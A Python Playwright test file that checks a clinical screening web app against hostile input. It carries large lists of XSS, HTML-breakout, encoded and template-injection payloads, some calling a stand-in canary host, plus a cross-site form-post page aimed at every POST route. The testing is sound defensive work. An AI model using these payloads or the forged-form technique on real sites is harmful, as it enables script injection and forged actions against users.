"""Hostile text in every string that others give us, on every page, in real Chromium; and foreign forms.

Each string holds two dozen payloads at a time. A page must have the elements of the page with plain words, no
other; nothing may run, be asked for elsewhere, or be stopped only by the content security policy.
"""

import copy
import json
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Error, Page

from ipvscreen.ipv.packs_file import Shelf
from ipvscreen.ipv.visit import Step
from ipvscreen.parts import data_folder
from ipvscreen.sandbox import switches
from ipvscreen.sdc.load import load_form

RUN = "alert(1)"
CALL = "//canary.invalid/x"

ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<script src={CALL}></script>",
    f"<SCRIPT >{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src={CALL}>",
    f"<img srcset='{CALL} 2x'>",
    f"<img/src=x/onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,x#y'></use></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<math><mtext></p><img src=x onerror={RUN}></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<body onload={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<iframe src={CALL}></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<object data={CALL}></object>",
    f"<embed src={CALL}>",
    f"<video src=x onerror={RUN}></video>",
    f"<video poster={CALL}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source onerror={RUN}></video>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<a href='javascript:{RUN}' autofocus tabindex=1 onfocus={RUN}>x</a>",
    f"<div contenteditable autofocus onfocus={RUN}>x</div>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<style>@import '{CALL}';</style>",
    f"<style onload={RUN}></style>",
    "<style>main{display:none}</style>",
    f"<link rel=stylesheet href={CALL}>",
    f"<link rel=preload as=image href={CALL}>",
    f"<link rel=dns-prefetch href={CALL}>",
    f"<meta http-equiv=refresh content='0;url={CALL}'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    f"<base href={CALL}>",
    f"<form action={CALL}><input name=token>",
    f"<form id=f action=javascript:{RUN}></form><button form=f>x</button>",
    f"<input type=image src={CALL}>",
    f"<isindex action=javascript:{RUN}>",
    f"<table background={CALL}></table>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<slot onslotchange={RUN}>x</slot>",
    f"<dialog open onclose={RUN}>x</dialog>",
    f"<x onanimationstart={RUN} style='animation:a 1s'>x</x>",
    f"<x contenteditable onbeforeinput={RUN}>x</x>",
    "<main data-step=start>x</main>",
    "<h1>Session ended, sign in again</h1>",
    "<p id=clobber name=token>x</p>",
    "<input name=token value=forged>",
    "<button name=door value=ask>x</button>",
    f"<a data-out href={CALL}>x</a>",
    "<p data-when='a=b'>x</p>",
]
BREAKOUTS = [
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"'><svg onload={RUN}>",
    f'" onmouseover={RUN} x="',
    f"' onmouseover={RUN} x='",
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"` onfocus={RUN} x=`",
    '" style="position:fixed;inset:0" x="',
    f'" formaction={CALL} x="',
    '" form=f type=submit x="',
    '" checked x="',
    f'" srcdoc="<script>{RUN}</script>',
    f"</label><script>{RUN}</script><label>",
    f"</legend></fieldset></form><form action={CALL}>",
    f"</option></select><img src=x onerror={RUN}>",
    f"</strong></header></body><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</summary></details><svg onload={RUN}>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"?><script>{RUN}</script>",
]
SPELLINGS = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"&#x3c;img src=x onerror={RUN}&#x3e;",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cscript%253E{RUN}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞",
    f"‹script›{RUN}",
    f"<\u200bscript>{RUN}</script>",
    f"<script\u00a0>{RUN}</script>",
    f"\u202e<script>{RUN}</script>\u202c",
    f"java\tscript:{RUN}",
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "{{ 7*7 }}",
    "{{ frame.token }}",
    "{% include 'cover.html' %}",
    "{# hidden #}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%0d%0aSet-Cookie: a=b",
    f"'-{RUN}-'",
    f"\\';{RUN}//",
    f"*/{RUN}/*",
]
SWALLOWING = [  # last in a batch: where they work they hide what follows
    "<!--",
    "<![CDATA[",
    "<plaintext>",
    "<xmp>",
    "<textarea>",
    "<noscript>",
    "<title>",
    f"<script>{RUN}",
    f"<img src='{CALL}?",
]
OPENING = ELEMENTS + BREAKOUTS + SPELLINGS
PER_BATCH = 24
PLAIN = ["plain words"]

# Strings that are no words: what they may be is fixed, and who reads them compares them.
FIXED = frozenset(
    {"resourceType", "id", "reference", "url", "system", "code", "use", "linkId", "version", "name", "status"}
    | {"type"}
)
TIMES = ("availableStartTime", "availableEndTime", "daysOfWeek")  # R4 has patterns for them, held at import
FIXED_OF_QUESTIONNAIRE = FIXED | frozenset(
    {"operator", "enableBehavior", "question", "subjectType", "language"}
)
FIXED_OF_SERVICE = FIXED - {"name"} | frozenset({"valueCode", "valueUrl", "valueDate", *TIMES})
FIXED_OF_PATIENT = FIXED - {"name"} | frozenset({"gender", "birthDate"})
SEEN = [
    "given",
    "family",
    "prefix",
    "text",
    "display",
    "name",
    "comment",
    "valueString",
    "value",
    "clinician",
]

WATCH = """
  window.__stopped = []
  document.addEventListener('securitypolicyviolation', e =>
    __stopped.push(`${e.effectiveDirective} ${e.blockedURI}`))
"""
# The list of earlier forms grows with each visit: of it the first item stands for all.
LOOK = """() => ({
  elements: [...document.querySelectorAll('*')].filter(e => !e.closest('details > ul > li + li')).map(e =>
    `${e.localName} ${[...e.attributes].map(a => a.name).sort().join(' ')}`),
  text: document.documentElement.textContent,
  stopped: window.__stopped,
})"""


def batches() -> list[list[str]]:
    """Every payload once; one that swallows what follows ends each batch."""
    count = -(-len(OPENING) // PER_BATCH)
    return [OPENING[i::count] + SWALLOWING[i::count] for i in range(count)]


def words(payloads: list[str], where: str) -> str:
    """The payloads, after a mark that says where they were put."""
    return f"[{where}] " + " ".join(payloads)


def filled(value: Any, payloads: list[str], fixed: frozenset[str], where: str = "") -> Any:
    """The resource with the payloads in every string but the fixed ones."""
    if isinstance(value, dict):
        return {k: v if k in fixed else filled(v, payloads, fixed, k) for k, v in value.items()}
    if isinstance(value, list):
        return [filled(one, payloads, fixed, where) for one in value]
    return words(payloads, where) if isinstance(value, str) else value


PATIENT = {
    "resourceType": "Patient",
    "id": "anna-woman",
    "active": True,
    "gender": "female",
    "birthDate": "1990-04-05",
    "text": {"status": "x", "div": "x"},
    "extension": [
        {"url": "http://hl7.org/fhir/StructureDefinition/patient-interpreterRequired", "valueBoolean": True}
    ],
    "identifier": [{"use": "official", "system": "urn:x", "value": "x", "assigner": {"display": "x"}}],
    "name": [{"use": "official", "family": "x", "given": ["x", "x"], "prefix": ["x"], "suffix": ["x"]}],
    "telecom": [{"system": "phone", "value": "x"}, {"system": "email", "value": "x"}],
    "address": [
        {"text": "x", "line": ["x"], "city": "x", "district": "x", "postalCode": "x", "country": "x"}
    ],
    "maritalStatus": {"text": "x", "coding": [{"system": "urn:x", "code": "x", "display": "x"}]},
    "photo": [{"title": "x", "contentType": "x"}],
    "contact": [{"name": {"text": "x", "family": "x"}, "relationship": [{"text": "x"}]}],
    "communication": [{"language": {"text": "x", "coding": [{"display": "x"}]}, "preferred": True}],
    "generalPractitioner": [{"display": "x"}],
    "managingOrganization": {"display": "x"},
}
PRACTITIONER = {
    "resourceType": "Practitioner",
    "id": "dr-osei",
    "active": True,
    "text": {"status": "x", "div": "x"},
    "identifier": [{"system": "urn:x", "value": "x"}],
    "name": [{"family": "x", "given": ["x"], "prefix": ["x"], "suffix": ["x"]}],
    "telecom": [{"system": "phone", "value": "x"}],
    "address": [{"text": "x", "line": ["x"], "city": "x"}],
    "qualification": [{"code": {"text": "x"}, "issuer": {"display": "x"}}],
}
# Every page but the form about nothing says whose it is.
OF_NOBODY = {"cover"}


def forms_with(payloads: list[str]) -> dict[str, Any]:
    """The forms of copies of our questionnaires with the payloads in every word."""
    folder: Path = data_folder("questionnaires")
    files = [json.loads(p.read_text()) for p in sorted(folder.glob("*.json"))]
    bodies = [body for body in files if body.get("resourceType") == "Questionnaire"]
    loaded = [load_form(filled(body, payloads, FIXED_OF_QUESTIONNAIRE)) for body in bodies]
    return {form.name: form for form in loaded}


@dataclass
class Findings:
    """What each page of one run had on it, and what it did."""

    pages: dict[str, list[str]] = field(default_factory=dict)
    texts: dict[str, str] = field(default_factory=dict)
    stopped: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    elsewhere: list[str] = field(default_factory=list)

    @property
    def text(self) -> str:
        return " ".join(self.texts.values())

    @property
    def did(self) -> list[str]:
        return self.stopped + self.dialogs + self.elsewhere


class Walker:
    """Goes through every page of a visit and notes what is there."""

    def __init__(self, page: Page, running: Any) -> None:
        self.page, self.running, self.found = page, running, Findings()
        hosts = (running.origin, running.demo.clinic.rstrip("/"))
        page.on("dialog", lambda d: (self.found.dialogs.append(d.message), d.dismiss()))
        page.on(
            "request",
            lambda q: None if q.url.startswith(hosts) else self.found.elsewhere.append(q.url),
        )
        page.add_init_script(WATCH)

    def note(self, name: str) -> None:
        look = self._look()
        self.found.pages[name] = look["elements"]
        self.found.texts[name] = self.found.texts.get(name, "") + look["text"]
        self.found.stopped += look["stopped"]

    def _look(self) -> Any:
        """Once the page is there; on a busy machine another can be on its way when the first is looked at."""
        for _ in range(5):
            with suppress(Error):
                self.page.wait_for_load_state()
                return self.page.evaluate(LOOK)
        return self.page.evaluate(LOOK)

    def to(self, step: str, selector: str, name: str | None = None) -> None:
        """Click, arrive at that step, and note it."""
        self.page.click(selector, no_wait_after=True)
        self.page.wait_for_function(
            "([step, old]) => document.querySelector('main')?.dataset.step === step && !window.__old",
            arg=[step, None],
        )
        self.note(name or step)

    def beside(self) -> "Walker":
        """The same in another tab of the browser."""
        other = Walker(self.page.context.new_page(), self.running)
        other.found = self.found
        return other

    def leave_mark(self) -> None:
        """So that the next page is told from this one."""
        self.page.evaluate("window.__old = true")


def primary(w: Walker, step: str, name: str | None = None) -> None:
    w.leave_mark()
    w.to(step, "main .button.primary", name)


def link(w: Walker, step: str, selector: str) -> None:
    w.leave_mark()
    w.to(step, selector)


def unfold(page: Page) -> None:
    """Open every fold; where templates do not escape, a click may not find its way to them."""
    page.eval_on_selector_all("details", "folds => folds.forEach(fold => { fold.open = true })")


def walk(w: Walker, running: Any) -> Findings:
    """A visit over every page; its answers and what is typed are the same in every run."""
    page = w.page
    launch = f"{running.demo.addresses['launch']}?patient=anna-woman"
    page.goto(launch)
    w.note("start")
    link(w, "questions", "button[value=ask]")
    page.check("input[name='76500-8'][value='LA33-6']")
    primary(w, "respond")
    stopped(w, running)
    link(w, "form", "button[name=open][value=children]")
    primary(w, "respond")
    link(w, "danger", "header a:has-text('Danger now')")
    page.check("input[name=call][value=made]")
    primary(w, "respond")
    primary(w, "refer")
    without_a_service(w, running)
    primary(w, "refer", "refer with mistakes")
    link(w, "done", "a[href$='/done']")
    link(w, "refer", "a[href$='/refer']")
    link(w, "share", "a[href$='/share']")
    primary(w, "share", "share with mistakes")
    link(w, "refer", "a[href$='/refer']")
    page.check("input[name=service][value=specialist]")
    page.check("input[name=way][value=phone]")
    page.fill("[name=number]", "07700 900417")
    page.fill("[name=times]", words(w.typed, "times")[:300])
    page.check("input[name=out][value=yes]")
    page.check("input[name=back][value=yes]")
    primary(w, "sent", "on its way")
    for _ in range(50):
        if "Received by" in page.inner_text("main"):
            break
        page.wait_for_timeout(100)
        page.reload()
    w.note("sent")
    del w.found.pages["on its way"]  # whether it is there yet is a matter of time
    link(w, "finish", "a[href$='/finish']")
    page.goto(launch)
    w.note("start again")
    for _ in range(5):  # a busy record system is not waited for, and then the page names none
        if page.locator("button[name=earlier]").count():
            break
        page.reload()
    unfold(page)
    link(w, "earlier", "button[name=earlier] >> nth=0")
    link(w, "start", "button[value='first-page']")
    unfold(page)
    link(w, "own", "button[name=account]")
    link(w, "start", "button[value='first-page']")
    link(w, "not-now", "button[value='not-now']")
    link(w, "cover", "header a[href$='/cover']")
    return w.found


def without_a_service(w: Walker, running: Any) -> None:
    """The page that names the clinician: nobody else is there to keep contact."""
    store = running.rooms.store.services
    services = running.do(store.all())
    running.do(store.replace([]))
    w.page.reload()
    w.note("refer without a service")
    running.do(store.replace(services))
    w.page.reload()


def stopped(w: Walker, running: Any) -> None:
    """The list, and the page of a visit that another launch has stopped; then on with it."""
    page, beside = w.page, w.beside()
    beside.page.goto(f"{running.demo.addresses['list']}?clinician=dr-osei")
    beside.page.wait_for_selector("main[data-step=list]")
    beside.note("list")
    beside.page.goto(f"{running.demo.addresses['launch']}?patient=clara-woman&clinician=dr-osei")
    beside.page.wait_for_selector("main[data-step=start]")
    beside.page.close()
    page.reload()
    page.wait_for_selector("main[data-step=stopped]")
    w.note("stopped")
    primary(w, "respond")


@pytest.fixture
def hostile(
    running: Any, everyday: BrowserContext, shipped_packs: Callable[..., Any]
) -> Iterator[Callable[..., Findings]]:
    """Runs the walk with these payloads in every string; with other rooms where given."""
    memory = running.demo.ehr.state.sandbox.memory
    before = [memory.current("Patient", "anna-woman").body, memory.current("Practitioner", "dr-osei").body]
    services = running.do(running.rooms.store.services.all())

    def run(payloads: list[str], **rooms: Any) -> Findings:
        now = running.rooms.clock()
        memory.put(filled(copy.deepcopy(PATIENT), payloads, FIXED_OF_PATIENT), now)
        clinician = filled(copy.deepcopy(PRACTITIONER), payloads, FIXED_OF_PATIENT)
        clinician["name"][0]["family"] = words(payloads, "clinician")
        memory.put(clinician, now)
        changed = [filled(one, payloads, FIXED_OF_SERVICE) for one in services]
        running.do(running.rooms.store.services.replace(changed))
        w = Walker(everyday.new_page(), running)
        w.typed = payloads
        forms = forms_with(payloads)
        with running.changed(forms=forms, packs=shipped_packs(Shelf(forms)), **rooms):
            try:
                return walk(w, running)
            finally:
                w.page.close()

    yield run
    running.do(running.rooms.store.services.replace(services))
    for body in before:
        memory.put(body, running.rooms.clock())


def test_there_are_a_hundred_payloads() -> None:
    together = [payload for batch in batches() for payload in batch]

    assert len(set(together)) >= 100
    assert set(together) == set(OPENING + SWALLOWING)


def test_hostile_text_adds_nothing_to_any_page(hostile: Callable[..., Findings]) -> None:
    hostile(PLAIN)  # from the second visit on there is an earlier form on the first page
    plain = hostile(PLAIN)
    assert plain.did == []
    assert {f"[{where}]" for where in SEEN if f"[{where}]" not in plain.text} == set()

    for batch in batches():
        found = hostile(batch)
        assert found.did == []
        changed = {name for name in plain.pages if found.pages[name] != plain.pages[name]}
        assert changed == set(), batch
        assert {f"[{where}]" for where in SEEN if f"[{where}] {batch[0]}" not in found.text} == set()
        assert {name for name, text in found.texts.items() if f"[family] {batch[0]}" not in text} == OF_NOBODY
        assert f"[clinician] {batch[0]}" in found.texts["refer without a service"]


def test_what_the_record_system_says_is_only_text(
    everyday: BrowserContext, running: Any, make_clinician: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """OperationOutcome.text of a refusal, on the page that says that nothing was recorded."""
    found = []
    for payloads in (PLAIN, OPENING[::3]):
        monkeypatch.setitem(switches._WORDS, 422, ("business-rule", words(payloads, "refusal")))
        w = Walker(everyday.new_page(), running)
        running.switches.refuse[("POST", "*")] = 422
        try:
            w.page.goto(f"{running.demo.addresses['launch']}?patient=edith-81")
            link(w, "questions", "button[value=ask]")
            link(w, "done", "button[value=declined]")
        finally:
            running.switches.refuse.clear()
        assert words(payloads, "refusal")[:200] in w.found.text
        found.append(w.found)
        w.page.close()

    assert found[1].did == []
    assert found[1].pages == found[0].pages


def test_a_hostile_sex_or_birthday_is_unknown(
    everyday: BrowserContext, running: Any, hostile: Callable[..., Findings]
) -> None:
    """Strings whose values are fixed: a first page where they hold anything else."""
    memory = running.demo.ehr.state.sandbox.memory
    found = []
    for payloads in (PLAIN, OPENING):
        fixed = {"gender": words(payloads, "gender"), "birthDate": words(payloads, "birthDate")}
        memory.put({**PATIENT, **fixed}, running.rooms.clock())
        w = Walker(everyday.new_page(), running)
        w.page.goto(f"{running.demo.addresses['launch']}?patient=anna-woman")
        w.note("start")
        found.append(w.found)
        w.page.close()

    assert found[1].did == []
    assert found[1].pages == found[0].pages
    assert "[gender]" not in found[1].text
    assert "[birthDate]" not in found[1].text


REACHED = """e => {
  const b = e.getBoundingClientRect(), at = document.elementFromPoint(b.x + b.width / 2, b.y + b.height / 2)
  return b.width > 0 && (at === e || e.contains(at))
}"""
LONG_NAMES = {"words": "Maximiliana " * 125, "one word": "x" * 1500}


@pytest.mark.parametrize("size", [(1280, 720), (1024, 500), (360, 640)], ids=str)
@pytest.mark.parametrize("name", LONG_NAMES)
def test_a_name_of_1500_letters_covers_nothing(
    context: BrowserContext, running: Any, make_clinician: Any, name: str, size: tuple[int, int]
) -> None:
    """The ways out and the buttons are where they can be pressed, and age and sex can be read."""
    memory = running.demo.ehr.state.sandbox.memory
    before = memory.current("Patient", "david-man").body
    long = {"family": LONG_NAMES[name].strip(), "given": ["Anna"]}
    memory.put({**before, "name": [long], "active": True}, running.rooms.clock())
    try:
        page = context.new_page()
        page.set_viewport_size({"width": size[0], "height": size[1]})
        page.goto(f"{running.demo.addresses['launch']}?patient=david-man")
        c = make_clinician(page)
        c.see("start")
        wide = page.evaluate("document.documentElement.scrollWidth - innerWidth")
        assert wide <= 0, "the page is wider than the window"
        assert page.evaluate("document.querySelector('.top').offsetHeight / innerHeight") <= 0.46
        for way in page.locator(".ways a").all():
            assert way.evaluate(REACHED), way.inner_text()
        for said in page.locator(".who span").all():
            assert said.evaluate(REACHED), said.inner_text()
        c.door("ask")
        c.see("questions")
        page.evaluate("scrollTo(0, document.body.scrollHeight)")
        assert page.locator("main .button.primary").evaluate(REACHED)
        assert page.locator(".ways .exit").evaluate(REACHED) or size[0] < 480
        beside = context.new_page()
        beside.goto(f"{running.demo.addresses['launch']}?patient=clara-woman")
        beside.wait_for_selector("main[data-step=start]")
        page.reload()
        c.see("stopped")
        page.locator("main .button.primary").scroll_into_view_if_needed()
        assert page.locator("main .button.primary").evaluate(REACHED)
        c.primary()
        c.see("questions")
    finally:
        memory.put(before, running.rooms.clock())


def post_routes(running: Any, visit: str) -> list[str]:
    """Every path of the app that takes a POST, with this visit and each step in it."""
    included = [getattr(route, "original_router", None) for route in running.weaker.routes]
    routes = [route for router in included if router for route in router.routes]
    paths = [route.path for route in routes if "POST" in route.methods]
    assert "/v/{visit_id}/{step}" in paths
    paths = [path for path in paths if not path.startswith("/i/")]  # not at this origin
    steps = [step.value for step in Step]
    named = [path.replace("{visit_id}", visit) for path in paths]
    return sorted({path.replace("{step}", step) for path in named for step in steps})


@pytest.fixture
def foreign(everyday: BrowserContext, running: Any, other_site: Any) -> Iterator[Callable[..., list[int]]]:
    """Begins a visit, then posts its own form to every route from a page of another site."""
    tabs: list[Page] = []

    def attack() -> tuple[list[int], bool]:
        tabs.append(page := everyday.new_page())
        page.goto(f"{running.demo.addresses['launch']}?patient=clara-woman")
        page.click("button[value=ask]")
        page.wait_for_selector("main[data-step=questions]")
        token = page.input_value("input[name=token]")
        before = running.everything_stored()
        statuses = []
        for path in post_routes(running, page.url.split("/")[4]):
            tabs.append(bad := everyday.new_page())
            other_site.pages["/prize"] = (
                f"<!doctype html><form method=post action='{running.origin}{path}'>"
                f"<input name=token value='{token}'><input name='76500-8' value='LA33-6'></form>"
            )
            bad.goto(other_site.url("/prize"))
            with bad.expect_response(lambda answer: answer.request.method == "POST") as answer:
                bad.evaluate("document.forms[0].submit()")
            statuses.append(answer.value.status)
            bad.wait_for_load_state()
        return statuses, running.everything_stored() == before

    yield attack
    for tab in tabs:
        tab.close()


@pytest.mark.parametrize("layers", [(), ("same-site", "partitioned")], ids=["cookies stay", "cookies come"])
def test_a_form_of_another_site_changes_nothing(
    layers: tuple[str, ...], foreign: Callable[..., Any], running: Any
) -> None:
    """Even where it knows the form's token, and even where the browser sends the visit's cookie along."""
    with running.without(*layers):
        statuses, unchanged = foreign()

    assert unchanged
    assert set(statuses) == {403}


def test_without_the_look_at_who_posts_this_goes_red(
    foreign: Callable[..., Any], running: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The control: the same forms, with cookies sent along and nobody asking where they come from."""
    monkeypatch.setattr("ipvscreen.web.visit.posted_by_us", lambda headers, origin: True)
    with running.without("same-site", "partitioned"):
        statuses, unchanged = foreign()

    assert not unchanged
    assert set(statuses) & {204, 303}


def test_without_escaping_this_goes_red(hostile: Callable[..., Findings], running: Any) -> None:
    """The control: templates that do not escape; no svg, inside which a browser shows no buttons."""
    plain = hostile(PLAIN)
    templates = {key: one.overlay(autoescape=False) for key, one in running.rooms.templates.items()}
    found = hostile(["<img src=//canary.invalid/x>", "<img src=x onerror=alert(1)>"], templates=templates)

    assert all(found.pages[name] != plain.pages[name] for name in ("start", "questions", "refer"))
    assert found.stopped  # the policy still holds what the templates let through
